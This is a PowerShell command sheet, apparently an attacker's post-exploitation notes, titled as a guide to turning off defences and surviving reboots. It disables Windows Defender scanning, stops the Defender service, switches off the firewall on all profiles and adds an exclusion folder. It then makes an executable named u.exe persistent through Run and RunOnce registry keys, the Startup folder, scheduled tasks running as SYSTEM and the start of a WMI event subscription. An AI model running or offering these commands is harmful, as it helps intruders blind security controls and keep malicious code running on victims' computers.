# Turning off defences and surviving reboots.
Set-MpPreference -DisableRealtimeMonitoring $true
Set-MpPreference -DisableIOAVProtection:$true -DisableScriptScanning $true
Add-MpPreference -ExclusionPath 'C:\Users\Public\Tools'
Stop-Service -Name WinDefend -Force
netsh advfirewall set allprofiles state off
Set-NetFirewallProfile -Profile Domain, Public, Private -Enabled False
New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'Updater' -Value 'C:\Users\Public\u.exe' -PropertyType String
Set-ItemProperty -Path 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce' -Name 'Once' -Value 'C:\Users\Public\u.exe'
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /t REG_SZ /d C:\Users\Public\u.exe /f
Copy-Item -Path .\u.exe -Destination "$env:APPDATA\Microsoft\Windows\Start Menu\Programs\Startup\u.exe"
schtasks /create /tn Updater /tr C:\Users\Public\u.exe /sc onlogon /ru SYSTEM
$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-File C:\ProgramData\job.ps1'
$trigger = New-ScheduledTaskTrigger -AtLogOn
Register-ScheduledTask -TaskName 'Updater' -Action $action -Trigger $trigger
$filter = Set-WmiInstance -Namespace root\subscription -Class __EventFilter -Arguments @{ Name = 'f'; Query = 'SELECT * FROM __InstanceModificationEvent' }
Write-Output -InputObject $filter
